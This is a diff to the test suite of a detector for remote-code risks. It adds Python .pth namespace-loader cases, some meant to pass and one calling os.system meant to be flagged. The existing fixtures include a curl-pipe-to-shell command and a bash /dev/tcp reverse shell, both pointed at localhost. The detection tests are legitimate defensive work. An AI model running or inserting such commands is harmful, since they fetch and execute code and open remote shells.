@@ -237,6 +237,21 @@ describe('the analyzer of remote code', () => {
     ['x.pth', "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; os.system('true')", ['path-file']],
     ['x.pth', '/opt/x\nimport _virtualenv\nimport evil\n', ['path-file']],
     ['editable.pth', '/opt/project/src\n', []],
+    [
+      'google-nspkg.pth',
+      "import sys, types, os;has_mfs = sys.version_info > (3, 5);p = os.path.join(sys._getframe(1).f_locals['sitedir'], *('google',));importlib = has_mfs and __import__('importlib.util');has_mfs and __import__('importlib.machinery');m = has_mfs and sys.modules.setdefault('google', importlib.util.module_from_spec(importlib.machinery.PathFinder.find_spec('google', [os.path.dirname(p)])));m = m or sys.modules.setdefault('google', types.ModuleType('google'));mp = (m or []) and m.__dict__.setdefault('__path__',[]);(p not in mp) and mp.append(p)\n",
+      [],
+    ],
+    [
+      'mpl-nspkg.pth',
+      "import sys,types,os; p = os.path.join(sys._getframe(1).f_locals['sitedir'], *('a', 'b')); ie = os.path.exists(os.path.join(p,'__init__.py')); m = not ie and sys.modules.setdefault('a.b',types.ModuleType('a.b')); mp = (m or []) and m.__dict__.setdefault('__path__',[]); (p not in mp) and mp.append(p);m and setattr(sys.modules['a'], 'b', m)\n",
+      [],
+    ],
+    [
+      'x-nspkg.pth',
+      "import sys, types, os;p = os.path.join(sys._getframe(1).f_locals['sitedir'], *('google',));os.system('true')\n",
+      ['path-file'],
+    ],
     ['run.sh', 'curl http://127.0.0.1/x | sh', ['script', 'fetched-code']],
     ['run.sh', 'curl -LO http://127.0.0.1/x.tar.gz\ntar xf x.tar.gz', ['script']],
     ['run.sh', 'bash -i >& /dev/tcp/127.0.0.1/9 0>&1', ['script', 'attacking-script']],
